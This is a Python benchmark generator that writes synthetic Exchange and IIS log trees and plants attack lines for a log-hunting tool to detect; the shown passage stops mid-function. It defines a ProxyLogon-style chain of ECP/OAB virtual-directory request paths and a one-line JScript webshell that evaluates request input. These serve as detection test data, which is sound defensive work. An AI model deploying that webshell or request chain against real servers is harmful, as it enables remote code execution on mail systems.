#!/usr/bin/env python3
"""Write a realistic benchmark tree of one Exchange server, with attacks planted in it.

    python3 bench/gen_tree.py --size 2G --seed 1 --out /tmp/tree
    python3 bench/gen_tree.py --size 300M --seed 7 --out /tmp/t --force --old-build
    python3 bench/gen_tree.py --size 1G --profile busy --out /tmp/busy

The tree has the folder layout of examples/compromised (a copied system drive):

    Program Files/Microsoft/Exchange Server/V15/Logging/
        HttpProxy/<Protocol>/HttpProxy_YYYYMMDDHH-N.LOG   13 protocol folders, hourly
        CmdletInfra/Powershell-Proxy/Http/Rps_Http_YYYYMMDDHH-N.LOG
        ECP/Server/ECPServerYYYYMMDD-N.LOG
        OABGeneratorLog/OABGeneratorLog_YYYYMMDD-N.LOG
    inetpub/logs/LogFiles/W3SVC1/u_exYYMMDD.log          front end, port 443 (and 80)
    inetpub/logs/LogFiles/W3SVC2/u_exYYMMDD.log          Exchange Back End, port 444

Every file is in the format exhunt reads (the formats of tests/gen/make_fixtures.py:
HttpProxy's 74 columns, Rps_Http's 38, ECP Server, OAB generator, IIS W3C). The traffic
is an ordinary corporate mail server in March 2023 (a fully patched Exchange 2016 CU23:
the February 2023 SU, then the March 2023 SU installed on 2023-03-15 20:00 UTC), with
about 1,200 users on Outlook, phones and browsers. The tree ends on 2023-03-17 and covers
one day per 512 MiB (at least one, at most a fortnight from 2023-03-04), so files keep
realistic sizes: hourly HttpProxy files of up to several MB, daily IIS files of tens of MB.

Size shares (of --size): HttpProxy 62 % (Mapi, Ews, Eas and Owa the biggest), IIS 31 %
(W3SVC1 20 %, W3SVC2 11 %; one front-end day is a single file of 6 % of the tree),
Rps_Http 3.5 %, ECP Server 2 %, OAB generator 1.5 %. The total written is within a few
bytes of --size.

Traffic profiles (--profile):
  quiet (default)  the mix above. Lines average about 550 bytes, and 29 % of them carry one
                   of exhunt's pre-filter literals (build/bench-literals): mostly `.asmx`
                   (EWS), `powershell`, `autodiscover.json` and `.aspx`. Same output as
                   before profiles existed.
  busy             a server whose front end answers many short requests: HttpProxy 30 %
                   (Ews 26 % of it, Mapi 14, Eas 16, Owa 14, Autodiscover 12, PowerShell 8),
                   IIS 61 % (W3SVC1 38 %, W3SVC2 23 %), Rps_Http 5 %, ECP Server 2 %, OAB
                   generator 2 %. Per line, the front end's IIS log carries more EWS (24 %),
                   ActiveSync (20 %), autodiscover (6 % xml, 8 % json), OWA logon pages (5 %)
                   and remote PowerShell (4 %) requests and fewer MAPI ones (14 %), the back
                   end's likewise; OWA's HttpProxy rows ask for the logon page more often,
                   autodiscover's are mostly v2 JSON (Outlook mobile), and 70 % of the
                   HttpProxy rows find the back end's routing entry already cached (a shorter
                   GenericInfo). Lines average about 385 bytes and about 43 % carry a literal
                   (page, PowerShell or autodiscover), over the whole tree; files, days,
                   plants and expected findings are planned as for quiet.
The manifest states the profile, the mean line length (bytes_written / lines) and, when
the literals are known (--literals, default build/bench-literals), the number and share of
lines that carry one (case-insensitive; the same test as `rg -F -i`).

Attacks (the same in both profiles): a known number of request lines of every kind the log
checks cover is planted at the start, middle and end of files in several folders. Each
planted line gets its own source address (documentation ranges 192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24;
the IOC-001 plants use the published addresses of data/ioc-ips.tsv). Per kind,
2 + round(3 * size / GiB) lines. Benign traffic gives no finding.

The manifest is written next to the tree, OUT + ".manifest.json" (not inside it):
seed, size_requested, bytes_written, files, lines, expected (findings per rule id, by
construction), profile, mean_line_bytes, literals, literal_lines, literal_line_share
(null without literals) and plants (rule, file, line, source address of every planted line).
With --old-build every HttpProxy and Rps_Http file carries an unpatched build
(15.1.2106.2, Exchange 2016 CU18), and its exposure rules (EXP_OLD) are expected once each
(exhunt judges the newest build of the whole tree, so one old file among patched ones
gives no exposure finding).

Same --seed, --size and --profile give a byte-identical tree. Standard library only.
"""

import argparse
import base64
import datetime as dt
import hashlib
import itertools
import json
import multiprocessing
import os
import random
import shutil
import subprocess
import sys
from bisect import bisect_right
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]

# The log formats, the host names and the attack shapes are those of the
# end-to-end fixtures (tests/gen/make_fixtures.py): one definition for both.
sys.path.insert(0, str(REPO / "tests" / "gen"))
from make_fixtures import (  # noqa: E402
    AUTODISCOVER_JSON, BOM, CRLF, EVIL, FQDN, HP_FIELDS, IIS_FIELDS, LOGS, OAB_INSTALL,
    OWASSRF_STEM, PNS_Q, PS_EMAIL, PS_Q_EWS, PS_Q_NSPI, PS_Q_RPS, PS_RPS_CAT, RPS_FIELDS,
    SERVER, SERVER_IP, SSRF_PREFIX, UA_ANTSWORD, UA_CHROME87, UA_CHROME92, UA_CHROME105,
    UA_CURL, UA_EWS_BAD, UA_EWS_GOOD, UA_GOOGLEBOT, UA_NMAP, UA_NUCLEI, UA_PYREQ_26,
    UA_PYREQ_28, UA_WINRM, UA_ZGRAB, URLHOST, V15, build_short, csv_field)

KIB, MIB, GIB = 1 << 10, 1 << 20, 1 << 30

# --------------------------------------------------------------------------------------
# The synthetic world
# --------------------------------------------------------------------------------------

FQDN2 = "EXCH02.corp.example.com"
SERVER2_IP = "10.10.0.26"
LB_IPS = ["10.10.0.2", "10.10.0.3"]
DOMAIN = "corp.example.com"
NETBIOS = "CORP"

BUILD_FEB23 = "15.01.2507.021"   # Exchange 2016 CU23 + Feb 2023 SU
BUILD_MAR23 = "15.01.2507.023"   # Exchange 2016 CU23 + Mar 2023 SU (installed 2023-03-15 20:00)
BUILD_OLD = "15.01.2106.002"     # Exchange 2016 CU18 RTM: lacks every SU exhunt judges
SU_SWITCH = dt.datetime(2023, 3, 15, 20, 0, 0)
END_DAY = dt.date(2023, 3, 17)   # a Friday; the longest tree starts on Saturday 2023-03-04
MAX_DAYS = 14
MIB_PER_DAY = 512 * (1 << 20)   # a day of this server's logs: 2G covers 4 days, 7G a fortnight
PROFILE = "quiet"   # the traffic mix (--profile quiet|busy); set by main() before the pools are built
# --profile busy: request mixes (per line) where the quiet profile has its own lists in place
BUSY_HP_OWA = [("svc", 30), ("ev", 10), ("root", 8), ("logon", 22), ("authowa", 10), ("photo", 8),
               ("logoff", 2), ("timeout", 3), ("shared", 1), ("attach", 3)]
BUSY_IIS_FE = [("mapi", 12), ("nspi", 2), ("ews", 24), ("eas", 20), ("owa", 10), ("owastatic", 3),
               ("autod", 6), ("autodjson", 8), ("rpc", 2), ("ecp", 2), ("oab", 1), ("ps", 4),
               ("health", 2.5), ("rest", 1), ("cal", 0.3), ("noise", 1.2), ("crawler", 0.4),
               ("logonpage", 5)]
BUSY_IIS_BE = [("mapi", 14), ("ews", 28), ("eas", 18), ("owa", 12), ("ps", 8), ("psprobe", 5),
               ("ecp", 3), ("autod", 6), ("oab", 1), ("rpc", 2), ("probe", 3)]

OAB_GUID = "5f3a0b3e-7c21-4d8e-9b0a-3e6f1c2d4a57"
CHAIN = {
    "autodiscover": "/autodiscover/autodiscover.xml?#",
    "emsmdb": "/mapi/emsmdb/?#",
    "proxylogon": "/ecp/proxyLogon.ecp?#",
    "getobject": "/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&msExchEcpCanary=xkxx#",
    "setobject": "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=xkxx#",
    "reset": "/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=xkxx#",
    "ews": "/ews/exchange.asmx?#",
    "owa": "/owa/auth/logon.aspx?#",
}
SHELL_SCRIPT = ('<script language="JScript" runat="server">'
                'function Page_Load(){eval(Request["%s"],"unsafe");}</script>')


# attackers' and scanners' user agents (none is a published IOC user agent)
UA_CENSYS = "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)"
UA_NESSUS = "Mozilla/5.0 (compatible; Nessus)"
# published attacker user agents (data/ioc-uas.tsv): IOC-002 plants only
UA_PYREQ_25 = "python-requests/2.25.1"

# ordinary clients, March 2023
UA_OUTLOOK = [
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.16130; Pro)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.16026; Pro)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.15928; Pro)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.14332; Pro)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.5383; Pro)",
]
UA_MACOUTLOOK = "MacOutlook/16.70.23030500 (Intelx64 Mac OS X 13.2.1 (Build 22D68))"
UA_BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/110.0.0.0 Safari/537.36 Edg/110.0.1587.69",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/111.0.0.0 Safari/537.36 Edg/111.0.1661.41",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/111.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:110.0) Gecko/20100101 Firefox/110.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/16.3 Safari/605.1.15",
]
UA_DEVICES = [  # (DeviceType, user agent) for Exchange ActiveSync
    ("iPhone", "Apple-iPhone14C5/2004.51"),
    ("iPhone", "Apple-iPhone13C2/2004.51"),
    ("iPhone", "Apple-iPhone15C2/2004.51"),
    ("iPad", "Apple-iPad13C11/2004.51"),
    ("Outlook", "Outlook-iOS-Android/1.0"),
    ("Outlook", "Outlook-iOS-Android/1.0"),
    ("Android", "Android-Mail/2023.02.05.510547312.Release"),
    ("SAMSUNGSMG991B", "SAMSUNG-SM-G991B/101.300"),
    ("SAMSUNGSMS908B", "Samsung-SM-S908B/101.300"),
]
UA_AMPROBE = "AMProbe/Local/ClientAccess"
UA_MSRPC = "MSRPC"
UA_CRAWLERS = ["Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
               "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
               "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)"]

FIRST = ["anna", "ben", "carla", "david", "eva", "felix", "greta", "hannes", "ida", "jonas",
         "karin", "lukas", "maria", "niklas", "olga", "paul", "quentin", "rosa", "stefan",
         "tanja", "ulrich", "vera", "walter", "xenia", "yusuf", "zoe", "alice", "bob", "carol",
         "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory", "oscar", "peggy",
         "rupert", "sybil", "trent", "victor", "wendy", "amir", "bianca", "chen", "dmitri",
         "elena", "farid", "gisela", "hugo", "ines", "jan", "kenji", "lea", "marco", "nora",
         "omar", "petra"]
LAST = ["adler", "bauer", "costa", "dietrich", "engel", "fischer", "garcia", "hahn", "iversen",
        "jansen", "keller", "lang", "meyer", "novak", "olsen", "peters", "quast", "richter",
        "schmidt", "thomas", "ullrich", "vogel", "weber", "xu", "young", "zimmer", "brown",
        "clark", "davis", "evans", "foster", "green", "hughes", "irwin", "jones", "king",
        "lewis", "moore", "nash", "owens", "parker", "quinn", "reed", "smith", "turner",
        "usher", "vance", "walsh", "yates", "kowalski", "nowak", "rossi", "silva", "tanaka",
        "sato", "kim", "lee", "park", "singh", "khan"]

OWA_ACTIONS = ["GetItem", "FindItem", "FindConversation", "GetConversationItems", "CreateItem",
               "UpdateItem", "GetOwaUserConfiguration", "GetFolderMailboxId",
               "SubscribeToNotification", "GetCalendarView", "FindPeople", "GetAttachment",
               "MarkAllItemsAsRead", "GetReminders", "GetMailTips", "GetUserAvailabilityInternal"]
EAS_CMDS = [("Ping", 30), ("Sync", 35), ("FolderSync", 8), ("GetItemEstimate", 5),
            ("ItemOperations", 6), ("SendMail", 4), ("MoveItems", 3), ("Settings", 2),
            ("Search", 1), ("SmartReply", 2), ("MeetingResponse", 1)]
ECP_SCHEMAS = ["MessageTraceSummary", "MailboxSearch", "Mailboxes", "DistributionGroups",
               "OrgConfig", "ReceiveConnectors", "AcceptedDomains", "AdminAuditLog"]
ADMIN_CMDLETS = ["Get-Mailbox", "Get-ExchangeServer", "Get-MailboxDatabase", "Get-MailboxStatistics",
                 "Get-MessageTrackingLog", "Get-Queue", "Get-TransportService", "Get-ReceiveConnector",
                 "Get-DistributionGroupMember", "Set-Mailbox", "Get-OrganizationConfig",
                 "Get-MailboxDatabaseCopyStatus", "Test-ServiceHealth", "Get-ExchangeCertificate",
                 "Get-CASMailbox", "Get-MobileDevice", "Get-User", "Get-Recipient"]
PROBE_CMDLETS = ["Get-ExchangeServer", "Test-ActiveSyncConnectivity", "Get-MailboxDatabase",
                 "Test-MAPIConnectivity", "Get-Mailbox"]

# --------------------------------------------------------------------------------------
# Small helpers
# --------------------------------------------------------------------------------------


def build_parts(build):
    return tuple(int(p) for p in build.split("."))


def build_cols(build):
    return ",".join(str(p) for p in build_parts(build))


def tsv(build):
    maj, mnr, bld, rev = build_parts(build)
    return "Version %d.%d (Build %d.%d)" % (maj, mnr, bld, rev)


def sub_rng(seed, *key):
    """An independent, deterministic generator for one part of the tree."""
    h = hashlib.sha256(("%s|" % seed + "|".join(str(k) for k in key)).encode()).digest()
    return random.Random(int.from_bytes(h[:16], "big"))


def guid(r):
    h = "%032x" % r.getrandbits(128)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], "89ab"[int(h[16], 16) & 3], h[17:20],
                                 h[20:32])


def enc(s):
    """W3C value: '-' when empty, spaces as '+'."""
    return "-" if not s else s.replace(" ", "+")


def iis_rest(method, stem, query, port, user, ip, ua, status, taken, referer="", sub=0, win32=0,
             s_ip=SERVER_IP):
    """A W3C row after the 'date time' columns (default #Fields)."""
    return " ".join([s_ip, method, stem, enc(query), str(port), enc(user), ip, enc(ua),
                     enc(referer), str(status), str(sub), str(win32), str(taken)])


def parse_size(s):
    s = s.strip().upper().rstrip("B")
    mult = 1
    if s and s[-1] in "KMGT":
        mult = {"K": KIB, "M": MIB, "G": GIB, "T": 1 << 40}[s[-1]]
        s = s[:-1]
    try:
        v = float(s)
    except ValueError:
        raise argparse.ArgumentTypeError("size must be a number with an optional K/M/G suffix")
    n = int(v * mult)
    if n < 2 * MIB:
        raise argparse.ArgumentTypeError("size must be at least 2M")
    return n


def read_iocs():
    """IOC addresses and user agents of data/*.tsv (only to plant them and to keep benign
    traffic clear of them)."""
    ips, uas = [], []   # uas: (user agent, counts only on POST)
    p = REPO / "data" / "ioc-ips.tsv"
    if p.exists():
        for line in p.read_text().splitlines():
            if line and not line.startswith("#"):
                ips.append(line.split("\t")[0].strip())
    p = REPO / "data" / "ioc-uas.tsv"
    if p.exists():
        for line in p.read_text().splitlines():
            if line and not line.startswith("#"):
                when, ua = line.split("\t")[:2]
                uas.append((ua.strip(), when.strip() == "post"))
    if not ips:
        ips = ["104.140.114.110", "104.250.191.110", "108.61.246.56", "149.28.14.163"]
    if not uas:
        uas = [(UA_ANTSWORD, False), (UA_EWS_BAD, False)]
    return ips, uas


IOC_IPS, IOC_UAS = read_iocs()
DOC_NETS = ("192.0.2.", "198.51.100.", "203.0.113.")
PUBLIC_FIRST = [24, 31, 37, 46, 62, 66, 68, 71, 73, 77, 78, 79, 80, 81, 82, 83, 84, 85, 86, 87,
                88, 89, 90, 93, 94, 95, 109, 141, 151, 176, 178, 188, 193, 194, 195, 212, 213, 217]


def public_ip(r):
    while True:
        ip = "%d.%d.%d.%d" % (r.choice(PUBLIC_FIRST), r.randint(0, 255), r.randint(0, 255),
                              r.randint(1, 254))
        if ip not in IOC_IPS and not ip.startswith(DOC_NETS):
            return ip


# --------------------------------------------------------------------------------------
# Users and clients
# --------------------------------------------------------------------------------------


class User:
    __slots__ = ("first", "last", "sam", "upn", "sid", "mbx", "oguid", "db", "int_ip", "ext_ip",
                 "mob_ip", "dev_type", "dev_ua", "dev_id", "outlook", "browser", "mac")


def make_users(seed, n=1200):
    r = sub_rng(seed, "users")
    dbs = [guid(r) for _ in range(6)]
    users, seen = [], set()
    while len(users) < n:
        f, l = r.choice(FIRST), r.choice(LAST)
        sam = (f[0] + l)[:20]
        k = 1
        while sam in seen:
            k += 1
            sam = (f[0] + l)[:18] + str(k)
        seen.add(sam)
        u = User()
        u.first, u.last, u.sam = f, l, sam
        u.upn = sam + "@" + DOMAIN
        u.sid = "S-1-5-21-3623811015-3361044348-30300820-%d" % (1200 + len(users))
        u.mbx, u.oguid, u.db = guid(r), guid(r), r.choice(dbs)
        u.int_ip = "10.10.%d.%d" % (r.randint(1, 48), r.randint(2, 254))
        u.ext_ip, u.mob_ip = public_ip(r), public_ip(r)
        u.dev_type, u.dev_ua = r.choice(UA_DEVICES)
        u.dev_id = "%032X" % r.getrandbits(128) if u.dev_type != "Outlook" else \
            "%032x" % r.getrandbits(128)
        u.mac = r.random() < 0.06
        u.outlook = UA_MACOUTLOOK if u.mac else r.choice(UA_OUTLOOK)
        u.browser = r.choice(UA_BROWSERS[4:] if u.mac else UA_BROWSERS[:4])
        users.append(u)
    admins = users[:5]
    for i, a in enumerate(admins):
        a.int_ip = "10.10.0.%d" % (5 + i)
    return users, admins


# --------------------------------------------------------------------------------------
# HttpProxy rows
# --------------------------------------------------------------------------------------

TOK_TSV = "\x01TSV\x01"     # TargetServerVersion, replaced per build
TOK_BLD = "\x01BLD\x01"     # the short build (15.1.2507.21), replaced per build
LAT_FIELDS = ["HttpPipelineLatency", "CalculateTargetBackEndLatency", "ADLatency",
              "ModuleToHandlerSwitchingLatency", "ClientReqStreamLatency", "BackendReqInitLatency",
              "BackendReqStreamLatency", "BackendRespInitLatency", "BackendRespStreamLatency",
              "ClientRespStreamLatency", "HandlerCompletionLatency", "RequestHandlerLatency",
              "HandlerToModuleSwitchingLatency", "CoreLatency", "RoutingLatency",
              "HttpProxyOverhead", "RouteRefresherLatency"]


def hp_base(r, proto, anon=False):
    """A dict of all 74 fields with the values every proxied request has."""
    row = dict.fromkeys(HP_FIELDS, "")
    target = FQDN if r.random() < 0.55 else FQDN2
    row.update({
        "ClientRequestId": guid(r), "Protocol": proto, "UrlHost": URLHOST,
        "ServerHostName": SERVER, "HttpStatus": 200, "BackEndStatus": 200, "Method": "POST",
        "ProxyAction": "Proxy", "TargetServer": target, "TargetServerVersion": TOK_TSV,
        "ServerLocatorHost": target, "ServerLocatorLatency": r.randint(0, 2),
        "RequestBytes": r.randint(150, 9000), "ResponseBytes": r.randint(300, 48000),
        "TargetOutstandingRequests": r.randint(0, 6),
    })
    for f in LAT_FIELDS:
        row[f] = r.randint(0, 9)
    be = r.randint(4, 380)
    row["BackendProcessingLatency"] = be
    row["ProxyTime"] = be + r.randint(2, 20)
    row["TotalRequestTime"] = row["ProxyTime"] + r.randint(1, 12)
    row["ActivityContextLifeTime"] = row["TotalRequestTime"] - r.randint(0, 2)
    if not anon:
        row["AuthModulePerfContext"] = "I32:ADS.C[DC0%d]=%d;F:ADS.AL[DC0%d]=%.4f" % (
            r.randint(1, 2), r.randint(1, 3), r.randint(1, 2), r.uniform(0.4, 3.9))
    c = r.randint(0, 3)
    if PROFILE == "busy" and r.random() < 0.7:   # the back end's entry already cached
        row["GenericInfo"] = (
            "OnBeginRequest=0;OnAuthenticateRequest=%d;OnPostAuthorizeRequest=%d;"
            "BeginCalculateTargetBackEnd=%d;EndCalculateTargetBackEnd=%d;ProxyState-Run=None;"
            "BeginProxyRequest=%d;ProxyState-Complete=ProxyResponseData;EndProxyRequest=%d;" % (
                c, c + 1, c + 1, c + 2, c + 3, row["TotalRequestTime"]))
    else:
        row["GenericInfo"] = (
            "OnBeginRequest=0;OnAuthenticateRequest=%d;OnPostAuthorizeRequest=%d;"
            "BeginCalculateTargetBackEnd=%d;EndCalculateTargetBackEnd=%d;ProxyState-Run=None;"
            "RefreshingCacheEntry=CacheEntry(BackEndServer %s~1942062522|ResourceForest %s|"
            "FailoverSourceSiteName |);BeginProxyRequest=%d;ProxyState-Complete=ProxyResponseData;"
            "SharedCacheGuard=0;EndProxyRequest=%d;" % (c, c + 1, c + 1, c + 2, target, DOMAIN,
                                                        c + 3, row["TotalRequestTime"]))
    row["RoutingStatus"] = "RoutingEntry=Success" if r.random() < 0.8 else ""
    return row


def hp_user(row, u, auth):
    row.update(AuthenticationType=auth, IsAuthenticated="true", AuthenticatedUser=u.upn,
               DatabaseGuid=u.db, UserADObjectGuid=u.oguid)


def hp_challenge(row):
    """The 401 of an authentication handshake: answered by the front end, never proxied."""
    t = 1 + row["HttpPipelineLatency"] % 4
    row.update(IsAuthenticated="false", AuthenticatedUser="", HttpStatus=401, BackEndStatus="",
               ProxyAction="", TargetServer="", TargetServerVersion="", ServerLocatorHost="",
               ServerLocatorLatency="", AuthModulePerfContext="", DatabaseGuid="",
               UserADObjectGuid="", ResponseBytes=58 + row["RequestBytes"] % 300,
               RoutingStatus="", AnchorMailbox="", RoutingType="", BackendProcessingLatency="",
               BackendReqInitLatency="", BackendReqStreamLatency="", BackendRespInitLatency="",
               BackendRespStreamLatency="", ProxyTime="", TotalRequestTime=t,
               ActivityContextLifeTime=t, GenericInfo="OnBeginRequest=0;OnAuthenticateRequest=%d;"
               "AuthModuleChallenge=Negotiate,NTLM;" % (t - 1))


def hp_failure(row, r):
    row.update(HttpStatus=500, BackEndStatus=500 if r.random() < 0.6 else "",
               ErrorCode=r.choice(["BackEndRequestTimedOut", "UnexpectedError", "ServerNotFound"]),
               GenericErrors="ProxyRequestHandler:ProxyWebException:The operation has timed out")


def ip_of(u, r, mobile=False, roam=0.25):
    if mobile:
        return u.mob_ip
    return u.ext_ip if r.random() < roam else u.int_ip


def weighted(r, items):
    tot = sum(w for _, w in items)
    x = r.random() * tot
    for it, w in items:
        x -= w
        if x < 0:
            return it
    return items[-1][0]


def hp_variant(proto, r, W):
    """One benign HttpProxy request of this protocol, as a dict."""
    users = W.users
    u = r.choice(users)
    row = hp_base(r, proto)
    roll = r.random()
    if proto == "Mapi":
        act = weighted(r, [("Execute", 62), ("NotificationWait", 25), ("Connect", 6),
                           ("Disconnect", 3), ("", 4)])
        nspi = r.random() < 0.12
        row.update(UrlStem="/mapi/nspi/" if nspi else "/mapi/emsmdb/",
                   ProtocolAction="" if nspi else act,
                   UrlQuery="?MailboxId=%s@%s" % (u.mbx, DOMAIN), UserAgent=u.outlook,
                   ClientIpAddress=ip_of(u, r, roam=0.3), RoutingHint="Url",
                   AnchorMailbox="MailboxGuid~%s@%s" % (u.mbx, DOMAIN), RoutingType="MailboxGuid")
        hp_user(row, u, "Negotiate")
        if act == "NotificationWait" and not nspi:
            t = r.randint(20000, 660000)
            row.update(BackendProcessingLatency=t, ProxyTime=t + 3, TotalRequestTime=t + 5,
                       ActivityContextLifeTime=t + 4)
        if roll < 0.09:
            hp_challenge(row)
        elif roll < 0.093:
            hp_failure(row, r)
    elif proto == "Ews":
        kind = r.random()
        if kind < 0.12:
            row.update(UrlStem="/ews/exchange.asmx/s/GetUserPhoto", Method="GET",
                       UrlQuery="?email=%s%%40%s&UA=0&size=HR96x96" % (r.choice(users).sam, DOMAIN),
                       UserAgent=u.browser, ClientIpAddress=ip_of(u, r), RoutingHint="Cookie",
                       AnchorMailbox="Smtp~" + u.upn, RoutingType="Smtp")
            hp_user(row, u, "FBA")
            if r.random() < 0.3:
                row.update(HttpStatus=404, BackEndStatus=404)
        else:
            ua = UA_EWS_GOOD if kind > 0.95 else u.outlook
            row.update(UrlStem="/EWS/Exchange.asmx", UserAgent=ua, ClientIpAddress=ip_of(u, r),
                       RoutingHint="AnchorMailboxHeader" if r.random() < 0.7 else "Url",
                       AnchorMailbox="Smtp~" + u.upn, RoutingType="Smtp")
            hp_user(row, u, "Negotiate" if ua != UA_MACOUTLOOK else "Basic")
            if roll < 0.08:
                hp_challenge(row)
            elif roll < 0.09:
                hp_failure(row, r)
    elif proto == "Eas":
        cmd = weighted(r, EAS_CMDS)
        if r.random() < 0.03:
            row.update(Method="OPTIONS", UrlQuery="")
            cmd = ""
        else:
            row["UrlQuery"] = "?Cmd=%s&User=%s&DeviceId=%s&DeviceType=%s" % (
                cmd, u.sam, u.dev_id, u.dev_type)
        row.update(UrlStem="/Microsoft-Server-ActiveSync/default.eas", ProtocolAction=cmd,
                   UserAgent=u.dev_ua, ClientIpAddress=u.mob_ip, RoutingHint="Url",
                   AnchorMailbox="Smtp~" + u.upn, RoutingType="Smtp")
        hp_user(row, u, "Basic")
        if cmd == "Ping":
            t = r.randint(240000, 1740000)
            row.update(BackendProcessingLatency=t, ProxyTime=t + 2, TotalRequestTime=t + 4,
                       ActivityContextLifeTime=t + 3)
        if roll < 0.05:
            hp_challenge(row)
        elif roll < 0.056:
            hp_failure(row, r)
    elif proto == "Owa":
        k = weighted(r, BUSY_HP_OWA if PROFILE == "busy" else
                     [("svc", 48), ("ev", 16), ("root", 8), ("logon", 6), ("authowa", 5),
                      ("photo", 8), ("logoff", 2), ("timeout", 3), ("shared", 1), ("attach", 3)])
        ip = ip_of(u, r, roam=0.35)
        row.update(UserAgent=u.browser, ClientIpAddress=ip, RoutingHint="Cookie",
                   AnchorMailbox="Sid~" + u.sid, RoutingType="Sid")
        hp_user(row, u, "FBA")
        if k == "svc" or k == "timeout":
            row.update(UrlStem="/owa/service.svc",
                       UrlQuery="?action=%s&EP=1&ID=-%d&AC=1" % (r.choice(OWA_ACTIONS),
                                                                 r.randint(2, 220)),
                       ProtocolAction="")
            if k == "timeout":   # the OWA session has expired: 440 Login Timeout
                row.update(HttpStatus=440, BackEndStatus="", ProxyAction="", IsAuthenticated="false",
                           AuthenticatedUser="", TargetServer="", TargetServerVersion="")
            elif roll < 0.006:
                hp_failure(row, r)
        elif k == "ev":
            t = r.randint(30000, 900000)
            row.update(UrlStem="/owa/ev.owa2",
                       UrlQuery="?ns=PendingRequest&ev=PendingNotificationRequest&UA=0&cid=%d" %
                       r.randint(100000000, 999999999),
                       BackendProcessingLatency=t, ProxyTime=t + 2, TotalRequestTime=t + 3,
                       ActivityContextLifeTime=t + 3)
        elif k == "root":
            row.update(UrlStem="/owa/", Method="GET")
            if r.random() < 0.3:   # not logged on yet: redirect to the logon page
                row.update(HttpStatus=302, BackEndStatus="", ProxyAction="", IsAuthenticated="false",
                           AuthenticatedUser="", AnchorMailbox="", RoutingType="", RoutingHint="")
        elif k == "logon":
            row.update(UrlStem="/owa/auth/logon.aspx", Method="GET",
                       UrlQuery="?url=https%%3a%%2f%%2f%s%%2fowa%%2f&reason=0" % URLHOST,
                       AuthenticationType="", IsAuthenticated="false", AuthenticatedUser="",
                       AnchorMailbox="", RoutingType="", RoutingHint="", DatabaseGuid="",
                       UserADObjectGuid="", AuthModulePerfContext="")
        elif k == "authowa":
            row.update(UrlStem="/owa/auth.owa", HttpStatus=302, BackEndStatus=302,
                       AnchorMailbox="Smtp~" + u.upn, RoutingType="Smtp", RoutingHint="Url",
                       IsAuthenticated="false", AuthenticatedUser="")
        elif k == "photo":
            row.update(UrlStem="/owa/service.svc/s/GetPersonaPhoto", Method="GET",
                       UrlQuery="?email=%s%%40%s&UA=0&size=HR64x64" % (r.choice(users).sam, DOMAIN))
        elif k == "logoff":
            row.update(UrlStem="/owa/logoff.owa", Method="GET", HttpStatus=302, BackEndStatus=302)
        elif k == "shared":   # explicit logon to a shared mailbox
            row.update(UrlStem="/owa/info@%s/" % DOMAIN, Method="GET",
                       AnchorMailbox="Smtp~info@" + DOMAIN, RoutingHint="ExplicitLogon-SMTP-Header")
        else:
            row.update(UrlStem="/owa/service.svc/s/GetFileAttachment", Method="GET",
                       UrlQuery="?id=AAMkA%s&X-OWA-CANARY=%s" % (
                           hashlib.md5(str(r.random()).encode()).hexdigest(),
                           hashlib.sha1(str(r.random()).encode()).hexdigest()),
                       ResponseBytes=r.randint(20000, 4000000))
    elif proto == "OwaCalendar":
        owner = r.choice(users)
        row.update(UrlStem="/owa/calendar/%s@%s/%s/calendar.%s" % (
            owner.oguid.replace("-", ""), DOMAIN, "%032x" % r.getrandbits(128),
            "html" if r.random() < 0.5 else "ics"), Method="GET", UserAgent=r.choice(
                UA_BROWSERS + ["Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.16130; Pro)",
                               "Google-Calendar-Importer"]),
            ClientIpAddress=public_ip(r), AnchorMailbox="Smtp~" + owner.upn, RoutingType="Smtp",
            RoutingHint="Url", AuthenticationType="", IsAuthenticated="false")
    elif proto == "Autodiscover":
        k = r.random()
        xml, svc = (0.30, 0.40) if PROFILE == "busy" else (0.62, 0.72)
        if k < xml:
            row.update(UrlStem="/Autodiscover/Autodiscover.xml", UserAgent=u.outlook,
                       ClientIpAddress=ip_of(u, r), RoutingHint="Url",
                       AnchorMailbox="Smtp~" + u.upn, RoutingType="Smtp")
            hp_user(row, u, "Negotiate")
            if roll < 0.12:
                hp_challenge(row)
        elif k < svc:
            row.update(UrlStem="/autodiscover/autodiscover.svc", UserAgent=UA_MACOUTLOOK
                       if u.mac else UA_EWS_GOOD, ClientIpAddress=ip_of(u, r), RoutingHint="Url",
                       AnchorMailbox="Smtp~" + u.upn, RoutingType="Smtp")
            hp_user(row, u, "Basic")
        else:   # Autodiscover v2 (Outlook mobile, new Outlook): anonymous JSON
            proto2 = r.choice(["Ews", "ActiveSync", "AutodiscoverV1", "Rest"])
            if r.random() < 0.5:
                stem, q = "%s/v1.0/%s" % (AUTODISCOVER_JSON, u.upn), \
                    "?Protocol=%s&RedirectCount=1" % proto2
            else:
